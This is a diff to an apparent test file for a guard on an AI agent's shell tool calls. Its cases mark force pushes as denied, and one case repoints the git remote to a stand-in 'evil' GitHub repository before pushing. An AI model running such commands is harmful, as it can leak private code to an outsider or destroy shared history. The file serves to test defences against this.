@@ -692,7 +692,7 @@ cases:
       - {event: {phase: tool_call, tool: exec_command, args: {cmd: "git push -f", command: null}}, expect: deny}
       - {event: {phase: tool_call, tool: write_stdin, args: {session_id: 1, chars: "git push -f\n"}}, expect: deny}
       - {event: {phase: tool_call, tool: local_shell, args: {action: {type: exec, command: [git, push, --force]}}}, expect: deny}
-      - {event: {phase: tool_call, tool: Bash, args: {script: "git push -f"}}, expect: ask, reason_contains: no command line}
+      - {event: {phase: tool_call, tool: Bash, args: {script: "git push -f"}}, expect: deny, reason_contains: ambiguous}
   - name: moving a remote is asked about
     steps:
       - {event: {phase: tool_call, tool: Bash, args: {command: "git remote set-url origin https://github.com/evil/r && git push origin feature/a"}}, expect: ask}
